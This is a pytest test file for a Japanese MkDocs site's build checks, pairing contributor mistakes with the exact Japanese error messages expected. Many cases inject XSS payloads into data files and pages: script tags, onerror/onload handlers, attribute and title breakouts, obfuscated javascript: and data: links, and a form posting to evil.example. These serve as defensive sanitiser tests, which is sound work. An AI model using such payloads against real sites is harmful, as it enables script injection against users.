"""A corpus of contributor mistakes (issue 15, item 6): each with its exact messages, most of them without a build.

Every case changes the fixture project of tests/fixtures.py (data files, pages, mkdocs.yml; text or raw
bytes) and states the exact messages the strict build prints, as `make check` prints them
(``ERROR  file:line: message hint``). The guarantees, and where each is tested:

- test_mistake, every case: hooks.check.check (the stages of the strict build that find problems: the data,
  each page's Markdown and links, the nav; no theme, no writing) reports exactly the expected messages,
  in Japanese, one line each, with no traceback, and docs/, the data files and mkdocs.yml keep their bytes.
- test_a_real_build_and_make_check_print_the_same, a handful of cases (a data file, a page's encoding, the
  nav, a warning only): the strict build, in this process (MkDocs' own load_config and build, with the
  'mkdocs' loggers captured), prints the same messages, counts them and fails; ``python -m hooks.check
  --root`` prints the same list and exits 1 (its runs go on in the background while the checks run).
- test_a_poisoned_build_writes_no_script, every case that puts a script, a handler or an unsafe URL into
  the input, a few cases to a build (no two change the same data file; a page's change goes to a copy of
  its own): the build prints what check reports on the same tree, fails if a case expects a message,
  changes no input, writes every case's page, and no payload reaches the written HTML as code: no
  <script> but the theme's own, no on* attribute, no href/src with a javascript:, data: or vbscript:
  scheme, no <iframe>/<object>/<embed>, no form but the theme's, and the marker alert(1337) in no script
  and in no attribute value but the text that a browser only shows (title, alt, aria-label, a <meta>'s
  content: where plain fields are written, escaped).

The builds keep the theme's compiled templates between them (a third of the time of a subprocess). Both
engines build the same broken references in tests/test_engines.py.

An expected message may write a line as ``{{needle}}`` (or ``{{needle@n}}``, the nth occurrence): the
line of that text in the changed file that the message names (``file:{{needle}}``), or, without a
file in front, in the file the message is about.
"""

from __future__ import annotations

import html
import logging
import os
import re
import subprocess
import sys
import traceback
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import jinja2
import pytest
from mkdocs.commands.build import build as mkdocs_build
from mkdocs.config import load_config
from mkdocs.exceptions import Abort, ConfigurationError
from mkdocs.theme import Theme as MkDocsTheme

from hooks.check import check
from tests import fixtures
from tests.fixtures import (
    ABOUT_MD,
    ARTICLE_MD,
    COMPANIES,
    GLOSSARY,
    INDEX_MD,
    REPO,
    TIMELINE,
    UNUSED_TERM,
    edit,
    line_of,
    mkdocs_yml,
    write,
    write_project,
)

PAYLOAD = "alert(1337)"

# The files of the fixture project, by their path from the project root.
G = "glossary.yml"
T = "docs/data/timeline.yml"
CO = "docs/data/companies.yml"
INDEX = "docs/index.md"
ARTICLE = "docs/article/one.md"
ABOUT = "docs/about.md"
CONFIG = "mkdocs.yml"
FIXTURE = {CONFIG: mkdocs_yml(), G: GLOSSARY, T: TIMELINE, CO: COMPANIES, INDEX: INDEX_MD, ARTICLE: ARTICLE_MD, ABOUT: ABOUT_MD}
# The fixture may hold docs/data/people.yml (the person kind) too; the cases here change only the files above.
KINDS = ["term", "company", "event"]
if hasattr(fixtures, "PEOPLE"):
    FIXTURE["docs/data/people.yml"] = fixtures.PEOPLE
    KINDS.append("person")
KIND_HINT = "、".join(f"[[{kind}:id]]" for kind in KINDS[:-1]) + f" か [[{KINDS[-1]}:id]] の形で書く。"

# The hints of the messages, as the hooks print them.
TERM_KEYS = "id, ja, en, reading, aliases, short, definition, related, autolink, sources"
COMPANY_KEYS = (
    "id, name, name_en, name_local, kind, aliases, summary, founded, announced, headquarters, leaders, products, role, sources"
)
RAW_HINT = "タグの代わりに **太字**、[文字](URL)、リストを使う。「<」という文字そのものは &lt; と書く。"
LINK_HINT = "リンクは、ページへの相対パス（other.md#anchor の形）か、https:、http:、mailto: で始まるアドレスにする。"
ELEMENT_HINT = (
    "ページに書ける HTML はレイアウトのためのもの（<div markdown>、<details>、<span> など）だけで、"
    "コードを動かすものや読み込むものは書けない（CONTRIBUTING §4）。"
)
HANDLER_HINT = "この属性を消す（ページは独自のスクリプトを動かさない）。"
SPELLING_HINT = "1つの表記は1つの項目にしか使えないので、どちらかから消す。"
YAML_HINT = "この行と前の行の字下げ、コロン、引用符を確かめる。"
QUOTE_HINT = "ここで開いた引用符を閉じるか、引用符を付けずに書く。"
FLOW_HINT = "ここで開いた括弧を閉じる（[ は ] で、{ は } で）。"
TEXT_HINT = "コロンの後に1つの文として書く。"
FENCE_HINT = "``` だけの行（同じ文字を同じ数以上）で閉じる。"
RAW_LINK_HINT = "このページから見た相対 URL（../glossary/#id の形）か、Markdown のリンク [文字](page.md#id) で書く。"
NO_DESCRIPTION = (
    "フロントマターに description（ページの説明）がない。"
    "ページの先頭に「---」「description: 一文の説明。」「---」の3行を書く（検索エンジンとリンクのプレビューが使う）。"
)


def raw_html(file: str, tag: str, needle: str | None = None) -> str:
    """The message for raw HTML in a data file's Markdown field, at the line of needle (the tag by default)."""
    return f'ERROR  {file}:{{{{{needle or "<" + tag}}}}}: {file} の Markdown に HTML（"<{tag}>"）は書けない。{RAW_HINT}'


def bad_scheme(file: str, scheme: str, needle: str) -> str:
    """The message for a link with an unsafe scheme, at the line of needle."""
    return f'ERROR  {file}:{{{{{needle}}}}}: リンクに使えない "{scheme}:" が使われている。{LINK_HINT}'


def element(file: str, tag: str, needle: str | None = None) -> str:
    """The message for an element that pages may not hold."""
    return f"ERROR  {file}:{{{{{needle or '<' + tag}}}}}: ページに HTML の要素 <{tag}> は書けない。{ELEMENT_HINT}"


def handler(file: str, attr: str, tag: str, needle: str) -> str:
    """The message for an event handler attribute in a page."""
    return f'ERROR  {file}:{{{{{needle}}}}}: <{tag}> のイベントハンドラーの属性 "{attr}" は書けない。{HANDLER_HINT}'


Change = tuple | str | bytes | None  # (old, new) edits of the fixture text, a whole new text, raw bytes, or None to delete


@dataclass(frozen=True)
class Case:
    """One contributor mistake: the files it changes and the exact messages the build prints."""

    name: str
    changes: dict[str, Change]
    expected: list[str]
    check: bool = False  # also run `python -m hooks.check` on the tree
    script: bool = False  # the case puts a script, a handler or an unsafe URL into the input

    def files(self) -> dict[str, str | bytes | None]:
        """The changed files' contents, by path."""
        out: dict[str, str | bytes | None] = {}
        for path, change in self.changes.items():
            if isinstance(change, tuple):
                out[path] = edit(FIXTURE[path], *change)
            else:
                out[path] = change
        return out

    def messages(self) -> list[str]:
        """The expected messages with their {{needle}} placeholders replaced by lines."""
        texts = {**FIXTURE, **{p: _as_text(c) for p, c in self.files().items() if c is not None}}
        return [_expand(message, texts) for message in self.expected]


def _as_text(content: str | bytes) -> str:
    """A file's content as text, for finding lines (bytes that are not UTF-8 are read byte by byte)."""
    if isinstance(content, str):
        return content
    try:
        return content.decode("utf-8-sig")
    except UnicodeDecodeError:
        return content.decode("latin-1")


_PLACEHOLDER = re.compile(r"(?:(?P<file>[\w./-]+):)?\{\{(?P<needle>.+?)\}\}")
_MESSAGE_FILE = re.compile(r"^(?:ERROR|WARNING)  (?P<file>[^\s:]+)")


def _expand(message: str, texts: dict[str, str]) -> str:
    """Replace each {{needle}} placeholder of a message by the line of the needle in its file."""
    about = _MESSAGE_FILE.match(message).group("file")

    def line(found: re.Match) -> str:
        file = found.group("file") or about
        needle, _, nth = found.group("needle").partition("@")
        number = line_of(texts[file], needle, int(nth) if nth else 1)
        return f"{found.group('file')}:{number}" if found.group("file") else str(number)

    return _PLACEHOLDER.sub(line, message)


def sjis(text: str) -> bytes:
    """A text saved as Shift_JIS, as an editor set to it would."""
    return text.encode("cp932")


BOM = "\ufeff"

# An event added at the end of the timeline, with an id that is not valid.
NEW_EVENT = """
  - id: stock_drop
    date: "2025-02-10"
    title: 半導体株が下落
    summary: |
      半導体株が下落した。
    sources:
      - publisher: Example
        title: Stocks
        url: https://example.org/stocks
"""

# --- the corpus -------------------------------------------------------------------------------

CASES = [
    # Script in data: Markdown fields hold no raw HTML; plain fields are text, escaped wherever they are written.
    Case(
        "script-in-definition",
        {G: (("計算を多く使う代わりに", "<script>alert(1337)</script>計算を多く使う代わりに"),)},
        [raw_html(G, "script")],
        check=True,
        script=True,
    ),
    Case(
        "img-onerror-in-definition",
        {G: (("対話や要約に使われる。", "対話や要約に使われる。<img src=x onerror=alert(1337)>"),)},
        [raw_html(G, "img")],
        script=True,
    ),
    Case(
        "iframe-in-definition",
        {
            G: (
                (
                    "学習データは公開しないことが多い。",
                    '学習データは公開しないことが多い。<iframe src="https://evil.example/"></iframe>',
                ),
            )
        },
        [raw_html(G, "iframe")],
        script=True,
    ),
    Case(
        "script-in-company-role",
        {CO: (("R1を公開した企業である。", "R1を公開した企業である。<script>alert(1337)</script>"),)},
        [raw_html(CO, "script")],
        script=True,
    ),
    Case(
        "script-on-its-own-line-in-event-summary",
        {T: (("新しいモデルの提供を発表した。\n", "新しいモデルの提供を発表した。\n\n      <script>alert(1337)</script>\n"),)},
        [raw_html(T, "script")],
        script=True,
    ),
    Case(
        "html-comment-in-definition",
        {G: (("対話や要約に使われる。", "対話や要約に使われる。<!-- TODO: 出典を足す -->"),)},
        [f'ERROR  {G}:{{{{<!--}}}}: glossary.yml の Markdown に HTML のコメント（"<!--"）は書けない。コメントを消す。'],
    ),
    Case(
        "attribute-breakout-in-company-summary",
        {CO: (("summary: 中国・杭州のAI企業である。", "summary: '中国・杭州のAI企業\"><script>alert(1337)</script>である。'"),)},
        [],
        script=True,
    ),
    Case(
        "attribute-breakout-in-term-short",
        {G: (("short: 大量の文章で学習した、", 'short: 大量の" onmouseover="alert(1337)" x="文章で学習した、'),)},
        [],
        script=True,
    ),
    Case(
        "script-in-source-title",
        {G: (("title: Learning to reason with LLMs", "title: Learning to reason <script>alert(1337)</script>"),)},
        [],
        script=True,
    ),
    Case(
        "script-in-source-publisher",
        {CO: (("publisher: OpenAI\n        title: About", "publisher: OpenAI<svg onload=alert(1337)>\n        title: About"),)},
        [],
        script=True,
    ),
    Case(
        "script-in-term-ja",
        {G: (("ja: オープンウェイト", "ja: オープンウェイト<script>alert(1337)</script>"),)},
        [],
        script=True,
    ),
    Case(
        "script-in-event-title",
        {T: (("title: OpenAIが対応を発表", "title: OpenAIが対応を発表<script>alert(1337)</script>"),)},
        [],
        script=True,
    ),
    Case(
        "attribute-breakout-in-event-title",
        {T: (("title: DeepSeekがR1を公開", "title: 'DeepSeekがR1を公開\"><img src=x onerror=alert(1337)>'"),)},
        [],
        script=True,
    ),
    Case(
        "title-breakout-in-company-name",
        {CO: (("name: OpenAI\n", "name: OpenAI</title><script>alert(1337)</script>\n"),)},
        [],
        script=True,
    ),
    Case(
        "script-in-alias",
        {CO: (("aliases: [ディープシーク]", 'aliases: [ディープシーク, "<script>alert(1337)</script>"]'),)},
        [],
        script=True,
    ),
    Case(
        "script-in-leaders-and-products",
        {
            CO: (
                ('leaders: ["梁文锋（創業者・CEO）"]', 'leaders: ["梁文锋<img src=x onerror=alert(1337)>"]'),
                ("products: [DeepSeek-R1]", 'products: ["<script>alert(1337)</script>"]'),
            )
        },
        [],
        script=True,
    ),
    Case(
        "script-in-name-local-and-kind",
        {
            CO: (
                ("name_local: 深度求索", "name_local: 深度求索</title><script>alert(1337)</script>"),
                ("kind: 企業", "kind: 企業<b onclick=alert(1337)>"),
            )
        },
        [],
        script=True,
    ),
    # Links with unsafe schemes, in data Markdown and in pages.
    Case(
        "javascript-link-in-definition",
        {G: (("対話や要約に使われる。", "対話や[要約](javascript:alert(1337))に使われる。"),)},
        [bad_scheme(G, "javascript", "javascript:")],
        script=True,
    ),
    Case(
        "entity-obfuscated-javascript-in-definition",
        {G: (("学習データは公開しないことが多い。", "学習データは[公開](java&#115;cript:alert(1337))しないことが多い。"),)},
        [bad_scheme(G, "javascript", "java&#115;cript:")],
        script=True,
    ),
    Case(
        "mixed-case-javascript-in-event-summary",
        {T: (("新しいモデルの提供を発表した。", "新しい[モデル](JaVaScRiPt:alert(1337))の提供を発表した。"),)},
        [bad_scheme(T, "javascript", "JaVaScRiPt:")],
        script=True,
    ),
    Case(
        "data-url-in-company-role",
        {CO: (("推論モデルo1を公開した企業である。", "推論モデル[o1](data:text/html,alert(1337))を公開した企業である。"),)},
        [bad_scheme(CO, "data", "data:text")],
        script=True,
    ),
    Case(
        "reference-definition-javascript-in-definition",
        {
            G: (
                (
                    "      計算を多く使う代わりに答えの精度を高める。\n",
                    "      計算を多く使う代わりに[精度][r]を高める。\n\n      [r]: javascript:alert(1337)\n",
                ),
            )
        },
        [bad_scheme(G, "javascript", "[r]: javascript:")],
        script=True,
    ),
    Case(
        "javascript-link-in-page",
        {ABOUT: ABOUT_MD + "\n[ここを押す](javascript:alert(1337))と何かが起きる。\n"},
        [bad_scheme(ABOUT, "javascript", "javascript:")],
        script=True,
    ),
    Case(
        "hex-entity-javascript-in-page",
        {ABOUT: ABOUT_MD + "\n[ここ](java&#x73;cript:alert(1337))を読む。\n"},
        [bad_scheme(ABOUT, "javascript", "java&#x73;cript:")],
        script=True,
    ),
    Case(
        "tab-entity-javascript-in-page",
        {ABOUT: ABOUT_MD + "\n[ここ](java&#9;script:alert(1337))を読む。\n"},
        [bad_scheme(ABOUT, "javascript", "java&#9;script:")],
        script=True,
    ),
    Case(
        "vbscript-link-in-page",
        {ARTICLE: ARTICLE_MD + "\n[古い方法](VBScript:alert(1337))もある。\n"},
        [bad_scheme(ARTICLE, "vbscript", "VBScript:")],
        script=True,
    ),
    Case(
        "data-url-link-in-page",
        {ABOUT: ABOUT_MD + "\n[資料](data:text/html;base64,YWxlcnQoMTMzNyk=)を見る。\n"},
        [bad_scheme(ABOUT, "data", "data:text")],
        script=True,
    ),
    Case(
        "reference-definition-javascript-in-page",
        {ABOUT: ABOUT_MD + "\n[参考][r]を見る。\n\n[r]: javascript:alert(1337)\n"},
        [bad_scheme(ABOUT, "javascript", "[r]: javascript:")],
        script=True,
    ),
    Case(
        "raw-anchor-javascript-in-page",
        {ABOUT: ABOUT_MD + '\n<a href="javascript:alert(1337)">押す</a>\n'},
        [bad_scheme(ABOUT, "javascript", "<a href")],
        script=True,
    ),
    # Elements and handlers that pages may not hold.
    Case(
        "script-in-page",
        {ABOUT: ABOUT_MD + "\n<script>alert(1337)</script>\n"},
        [element(ABOUT, "script")],
        script=True,
    ),
    Case(
        "script-inside-markdown-div-in-page",
        {ARTICLE: ARTICLE_MD + '\n<div class="note" markdown>\n注意：\n<script>alert(1337)</script>\n</div>\n'},
        [element(ARTICLE, "script")],
        script=True,
    ),
    Case(
        "iframe-in-page",
        {ABOUT: ABOUT_MD + '\n<iframe src="https://www.youtube.com/embed/x"></iframe>\n'},
        [element(ABOUT, "iframe")],
        script=True,
    ),
    Case(
        "form-in-page",
        {ABOUT: ABOUT_MD + '\n<form action="https://evil.example/collect"><input name="q"><button>送信</button></form>\n'},
        [element(ABOUT, "form")],
        script=True,
    ),
    Case(
        "object-in-page",
        {ABOUT: ABOUT_MD + '\n<object data="https://evil.example/x.swf"></object>\n'},
        [element(ABOUT, "object")],
        script=True,
    ),
    Case(
        "embed-in-page",
        {ABOUT: ABOUT_MD + '\n<embed src="https://evil.example/x.swf">\n'},
        [element(ABOUT, "embed")],
        script=True,
    ),
    Case(
        "onclick-in-page",
        {ABOUT: ABOUT_MD + '\n<span onclick="alert(1337)">ここを押す</span>\n'},
        [handler(ABOUT, "onclick", "span", "onclick")],
        script=True,
    ),
    Case(
        "uppercase-onerror-on-img-in-page",
        {ABOUT: ABOUT_MD + '\n<IMG SRC="../assets/images/favicon.png" ONERROR="alert(1337)">\n'},
        [handler(ABOUT, "ONERROR", "img", "ONERROR")],
        script=True,
    ),
    Case(
        "svg-onload-in-heading",
        {INDEX: (("# ホーム {#top}", "# ホーム<svg onload=alert(1337)></svg> {#top}"),)},
        [handler(INDEX, "onload", "svg", "onload")],
        script=True,
    ),
    Case(
        "front-matter-description-breaks-out",
        {ABOUT: (("description: このサイトについて。", "description: '\"><script>alert(1337)</script>'"),)},
        [],
        script=True,
    ),
    Case(
        "front-matter-title-breaks-out",
        {
            ABOUT: (
                (
                    "description: このサイトについて。",
                    "description: このサイトについて。\ntitle: '</title><script>alert(1337)</script>'",
                ),
            )
        },
        [],
        script=True,
    ),
    Case(
        "script-in-code-is-only-text",
        {
            ABOUT: ABOUT_MD
            + "\n埋め込みは `<script>alert(1337)</script>` と書かない。\n\n```html\n<script>alert(1337)</script>\n```\n"
        },
        [],
        script=True,
    ),
    # One mistake, one message: an unreadable data file hides the references to its records.
    Case(
        "yaml-syntax-error-in-glossary",
        {
            G: (
                (
                    "short: 大量の文章で学習した、文章を生成する大きなモデルである。",
                    "short: 大量の文章で学習した: 文章を生成する大きなモデルである。",
                ),
            )
        },
        [
            f"ERROR  {G}:{{{{学習した: 文章}}}}: YAML の書き方の誤り：ここに「キー: 値」は書けない（原文: mapping values are not allowed in this context）。値に「: 」を含めるなら、値全体を引用符で囲む。{YAML_HINT}"
        ],
        check=True,
    ),
    Case(
        "empty-glossary",
        {G: ""},
        [f"ERROR  {G}:1: ファイルが空である。1行目に「terms:」と書き、その下に項目を並べる。"],
    ),
    Case(
        "glossary-of-comments-only",
        {G: "# 用語集\n# あとで書く\n"},
        [f"ERROR  {G}:1: ファイルが空である。1行目に「terms:」と書き、その下に項目を並べる。"],
    ),
    Case(
        "wrong-top-level-key-in-glossary",
        {G: (("terms:\n", "term:\n"),)},
        [
            f'ERROR  {G}:1: 一番上のキー "term" は使えない。"terms" の書き間違いではないか。一番上に書けるのは「terms:」だけである。'
        ],
    ),
    Case(
        "top-level-key-typo-below-a-comment",
        {CO: "# 企業・組織のデータ\n\n" + edit(COMPANIES, ("companies:\n", "compaines:\n"))},
        [
            f'ERROR  {CO}:{{{{compaines:}}}}: 一番上のキー "compaines" は使えない。"companies" の書き間違いではないか。一番上に書けるのは「companies:」だけである。'
        ],
    ),
    Case(
        "typo-in-a-term-key",
        {G: (("    definition: |\n      推論モデルとは", "    defintion: |\n      推論モデルとは"),)},
        [
            f'ERROR  {G}:{{{{defintion:}}}}: 用語 "reasoning-model"：キー "defintion" は使えない。"definition" の書き間違いではないか。使えるキーは {TERM_KEYS} である。'
        ],
    ),
    Case(
        "list-where-a-term-definition-is-expected",
        {
            G: (
                (
                    "    definition: |\n      大規模言語モデルとは、大量の文章で学習したモデルである。\n      対話や要約に使われる。\n",
                    "    definition:\n      - 大規模言語モデルとは、大量の文章で学習したモデルである。\n      - 対話や要約に使われる。\n",
                ),
            )
        },
        [f'ERROR  {G}:{{{{definition:@2}}}}: 用語 "llm"："definition" がリストか「キー: 値」の形になっている。{TEXT_HINT}'],
    ),
    Case(
        "yaml-error-in-companies",
        {CO: (("    kind: 企業\n", "    kind: 企業\n   summary: 字下げが違う。\n"),)},
        [
            f"ERROR  {CO}:{{{{   summary: 字下げ}}}}: YAML の書き方の誤り：字下げがそろっていない（原文: did not find expected '-' indicator）。{YAML_HINT}"
        ],
    ),
    # Lines: every message at the line of the fault.
    Case(
        "unknown-term-in-a-block-list",
        {T: (("    terms: [reasoning-model]\n", "    terms:\n      - reasoning-model\n      - reasoning-modle\n"),)},
        [
            f'ERROR  {T}:{{{{- reasoning-modle}}}}: 出来事 "r1-release"："terms" の "reasoning-modle" という用語の id はない。"reasoning-model" の書き間違いではないか。'
        ],
    ),
    Case(
        "unknown-company-on-the-second-line-of-a-flow-list",
        {T: (("    companies: [deepseek]\n", "    companies: [deepseek,\n                openia]\n"),)},
        [
            f'ERROR  {T}:{{{{openia]}}}}: 出来事 "r1-release"："companies" の "openia" という企業の id はない。"openai" の書き間違いではないか。'
        ],
    ),
    Case(
        "unknown-related-term-in-a-block-list",
        {G: (("    related: [llm]\n", "    related:\n      - llm\n      - open-weight\n"),)},
        [
            f'ERROR  {G}:{{{{- open-weight}}}}: 用語 "reasoning-model"："related" の "open-weight" という用語の id はない。"open-weights" の書き間違いではないか。'
        ],
    ),
    Case(
        "duplicate-alias-at-its-item",
        {G: (("    aliases: [LLM]\n", "    aliases:\n      - LLM\n      - リーズニングモデル\n"),)},
        [
            f'ERROR  {G}:{{{{- リーズニングモデル}}}}: 用語 "llm"：表記 "リーズニングモデル" は用語 "reasoning-model"（glossary.yml:{{{{- id: reasoning-model}}}}）にもある。{SPELLING_HINT}'
        ],
    ),
    Case(
        "full-width-alias-of-a-company-name",
        {G: (("    aliases: [LLM]\n", "    aliases:\n      - LLM\n      - ＯｐｅｎＡＩ\n"),)},
        [
            f'ERROR  {G}:{{{{- ＯｐｅｎＡＩ}}}}: 用語 "llm"：表記 "ＯｐｅｎＡＩ" は企業 "openai"（docs/data/companies.yml:{{{{- id: openai}}}}）にもある。{SPELLING_HINT}'
        ],
    ),
    Case(
        "unclosed-double-quote",
        {T: (("    title: OpenAIが対応を発表\n", '    title: "OpenAIが対応を発表\n'),)},
        [
            f'ERROR  {T}:{{{{"OpenAI}}}}: YAML の書き方の誤り：ここで開いた引用符が閉じていない（原文: found unexpected end of stream (while scanning a quoted scalar)）。{QUOTE_HINT}'
        ],
    ),
    Case(
        # The quoted text runs on to the next '"' in the file (date: "2024-09"), where YAML gives up: the fault is
        # where the quote opens. (The line is the point of this case; the wording is the hooks' usual one for a quote.)
        "unclosed-quote-closed-by-a-later-quote",
        {G: (("    en: reasoning model\n", '    en: "reasoning model\n'),)},
        [
            f'ERROR  {G}:{{{{en: "reasoning}}}}: YAML の書き方の誤り：キーがあるはずの所に別のものがある（原文: did not find expected key）。{QUOTE_HINT}'
        ],
    ),
    Case(
        "unclosed-single-quote",
        {G: (("    short: 学習済みの重みを", "    short: '学習済みの重みを"),)},
        [
            f"ERROR  {G}:{{{{short: '}}}}: YAML の書き方の誤り：ここで開いた引用符が閉じていない（原文: found unexpected end of stream (while scanning a quoted scalar)）。{QUOTE_HINT}"
        ],
    ),
    Case(
        "unclosed-flow-list",
        {G: (("    related: [llm]\n", "    related: [llm\n"),)},
        [
            f"ERROR  {G}:{{{{related: [llm}}}}: YAML の書き方の誤り：ここで開いた括弧が閉じていない（原文: did not find expected ',' or ']' (while parsing a flow sequence)）。{FLOW_HINT}"
        ],
    ),
    Case(
        "duplicate-key-in-an-entry",
        {CO: (("    kind: 企業\n", "    kind: 企業\n    name: オープンAI\n"),)},
        [
            f'ERROR  {CO}:{{{{name: オープンAI}}}}: キー "name" が同じまとまりに2回書かれている（1回目は{{{{name: OpenAI}}}}行目）。どちらか1つにする。'
        ],
    ),
    Case(
        "tab-in-indentation",
        {G: (("    en: open weights\n", "\ten: open weights\n"),)},
        [
            f"ERROR  {G}:{{{{\ten:}}}}: YAML の書き方の誤り：字下げにタブ文字が使われている（原文: found a tab character that violates indentation）。字下げは半角スペースで書く。"
        ],
    ),
    # Slips: mistakes that must not build fine.
    Case(
        "unclosed-reference-in-page",
        {ABOUT: ABOUT_MD + "\n[[term:llm の話は用語集にある。\n"},
        [
            f'ERROR  {ABOUT}:{{{{[[term:llm の}}}}: 参照 "[[term:llm の話は用語集にある。" が閉じていない。「]]」で閉じ、[[term:llm]] の形にする。'
        ],
    ),
    Case(
        "unclosed-reference-in-definition",
        {G: (("対話や要約に使われる。", "対話や要約に使われる。[[term:reasoning-model"),)},
        [
            f'ERROR  {G}:{{{{[[term:reasoning-model}}}}: 参照 "[[term:reasoning-model" が閉じていない。「]]」で閉じ、[[term:reasoning-model]] の形にする。'
        ],
    ),
    Case(
        "unclosed-fence-in-page",
        {ARTICLE: (("## 推論モデルとは {#what}\n", "## 推論モデルとは {#what}\n\n```python\nprint('例')\n"),)},
        [
            f'ERROR  {ARTICLE}:{{{{```python}}}}: ここで開いたコードの囲み "```" が閉じていないため、ここから後ろはコードとして扱われない。{FENCE_HINT}'
        ],
    ),
    Case(
        "unclosed-fence-in-definition",
        {G: (("      対話や要約に使われる。\n", "      対話や要約に使われる。\n\n      ```\n      例\n"),)},
        [
            f'ERROR  {G}:{{{{      ```}}}}: ここで開いたコードの囲み "```" が閉じていないため、ここから後ろはコードとして扱われない。{FENCE_HINT}'
        ],
    ),
    Case(
        "two-headings-with-one-id",
        {ARTICLE: ARTICLE_MD + "\n## もう一つの節 {#what}\n\n本文。\n"},
        [
            f'ERROR  {ARTICLE}:{{{{{{#what}}@2}}}}: このページの見出し2つが同じ id "what" を持つため、"#what" へのリンクは1つ目にしか届かない。見出しごとに別の {{#id}} を付ける。'
        ],
    ),
    Case(
        "nav-entry-to-a-missing-page",
        {CONFIG: (("  - 記事: article/one.md\n", "  - 記事: article/one.md\n  - 二つ目: article/two.md\n"),)},
        [
            f'WARNING  {CONFIG}:{{{{article/two.md}}}}: nav に書かれた "article/two.md" のページがない。mkdocs.yml の nav のパスを直すか、そのページを作る。'
        ],
        check=True,
    ),
    Case(
        "broken-link-in-page",
        {INDEX: (("[記事](article/one.md)", "[記事](article/won.md)"),)},
        [
            f'WARNING  {INDEX}:{{{{article/won.md}}}}: リンク先のページ "article/won.md" がない。名前の近いページ "article/one.md" へのリンクに直す。'
        ],
        check=True,
    ),
    Case(
        "broken-anchor-in-page",
        {INDEX: (("[記事](article/one.md)", "[記事](article/one.md#nowhere)"),)},
        [
            f'WARNING  {INDEX}:{{{{#nowhere}}}}: リンク "article/one.md#nowhere" の "#nowhere" は、行き先のページにない見出し（id）である。行き先のページにある見出しの id を使う。'
        ],
    ),
    Case(
        "broken-link-in-definition",
        {G: (("学習データは公開しないことが多い。", "学習データは[記事](../article/two.md)のとおり公開しないことが多い。"),)},
        [
            f'WARNING  {G}:{{{{article/two.md}}}}: リンク先のページ "../article/two.md" がない。名前の近いページ "../article/one.md" へのリンクに直す。'
        ],
    ),
    Case(
        "broken-anchor-in-company-role",
        {CO: (("R1を公開した企業である。", "R1を公開した企業である（[記事](../article/one.md#r1)）。"),)},
        [
            f'WARNING  {CO}:{{{{#r1}}}}: リンク "../article/one.md#r1" の "#r1" は、行き先のページにない見出し（id）である。行き先のページにある見出しの id を使う。'
        ],
    ),
    Case(
        "raw-html-link-to-a-missing-page",
        {ABOUT: ABOUT_MD + '\n<a href="../missing/">別のページ</a>も読む。\n'},
        [f'ERROR  {ABOUT}:{{{{../missing/}}}}: HTML のリンク "../missing/" の行き先がサイトにない。{RAW_LINK_HINT}'],
    ),
    Case(
        "raw-html-link-to-a-missing-id",
        {ABOUT: ABOUT_MD + '\n<a href="../article/one/#nowhere">記事の節</a>も読む。\n'},
        [
            f'ERROR  {ABOUT}:{{{{#nowhere}}}}: HTML のリンク "../article/one/#nowhere" の "#nowhere" は、docs/article/one.md にない id である。そのページにある id（見出しの {{#id}}）を使う。'
        ],
    ),
    Case(
        "unquoted-raw-html-link-to-a-missing-page",
        {ABOUT: ABOUT_MD + "\n<a href=../missing/>別のページ</a>も読む。\n"},
        [f'ERROR  {ABOUT}:{{{{../missing/}}}}: HTML のリンク "../missing/" の行き先がサイトにない。{RAW_LINK_HINT}'],
    ),
    # Encodings.
    Case(
        "page-saved-as-shift-jis",
        {ABOUT: sjis(ABOUT_MD)},
        [
            f"ERROR  {ABOUT}:2: docs/about.md が UTF-8 で保存されていない（この行のバイト 0x82 を読めない。Shift_JIS などで保存したのではないか）。UTF-8 で保存し直す。"
        ],
        check=True,
    ),
    Case(
        "companies-saved-as-shift-jis",
        {CO: sjis(COMPANIES.replace("梁文锋", "梁文鋒"))},  # 锋 has no Shift_JIS code
        [
            f"ERROR  {CO}:{{{{name_local:}}}}: docs/data/companies.yml が UTF-8 で保存されていない（この行のバイト 0x90 を読めない。Shift_JIS などで保存したのではないか）。UTF-8 で保存し直す。"
        ],
    ),
    Case(
        "glossary-saved-as-shift-jis",
        {G: sjis(GLOSSARY)},
        [
            f"ERROR  {G}:{{{{ja:}}}}: glossary.yml が UTF-8 で保存されていない（この行のバイト 0x90 を読めない。Shift_JIS などで保存したのではないか）。UTF-8 で保存し直す。"
        ],
    ),
    Case("bom-on-a-page", {INDEX: (BOM + INDEX_MD).encode("utf-8")}, []),
    Case("bom-on-a-data-file", {G: (BOM + GLOSSARY).encode("utf-8"), T: (BOM + TIMELINE).encode("utf-8")}, []),
    Case(
        "broken-front-matter",
        {ARTICLE: (("description: 記事のページである。", "description: 記事: のページである。"),)},
        [
            f"ERROR  {ARTICLE}:2: フロントマターを読めないため、description などの設定が効かない。YAML の書き方の誤り：ここに「キー: 値」は書けない（原文: mapping values are not allowed in this context）。値に「: 」を含めるなら、値全体を引用符で囲む。{YAML_HINT}"
        ],
    ),
    Case(
        "front-matter-never-closed",
        {ABOUT: (("description: このサイトについて。\n---\n", "description: このサイトについて。\n\n"),)},
        [f"ERROR  {ABOUT}:1: ここで始まるフロントマターが閉じていない。「---」だけの行で閉じる。"],
    ),
    Case(
        "page-without-description",
        {ABOUT: (("---\ndescription: このサイトについて。\n---\n\n", ""),)},
        [f"ERROR  {ABOUT}:1: {NO_DESCRIPTION}"],
    ),
    # Others a tired contributor does.
    Case(
        "list-where-text-is-expected",
        {CO: (("headquarters: 米国・サンフランシスコ", "headquarters: [米国, サンフランシスコ]"),)},
        [
            f'ERROR  {CO}:{{{{headquarters: [}}}}: 企業 "openai"："headquarters" がリストか「キー: 値」の形になっている。{TEXT_HINT}'
        ],
    ),
    Case(
        "number-as-a-name-is-read-as-text",  # hooks.data reads numbers as text on purpose (a name like 360)
        {CO: (("    name: OpenAI\n", "    name: 1234\n"),)},
        [],
    ),
    Case(
        "date-object-as-a-name",
        {CO: (("    name: OpenAI\n", "    name: 2015-12-11\n"),)},
        [
            f'ERROR  {CO}:{{{{name: 2015}}}}: 企業 "openai"："name" の "2015-12-11" が文字ではなく日付として読まれた。"2015-12-11" のように引用符で囲む。'
        ],
    ),
    Case(
        "related-without-brackets",
        {G: (("related: [llm]", "related: llm"),)},
        [
            f'ERROR  {G}:{{{{related: llm}}}}: 用語 "reasoning-model"："related" がリストになっていない。related: [llm] のように [ ] で囲むか、1行に1つずつ「- 」で書く。'
        ],
    ),
    Case(
        "impossible-date",
        {T: (('date: "2025-02"', 'date: "2025-02-30"'),)},
        [
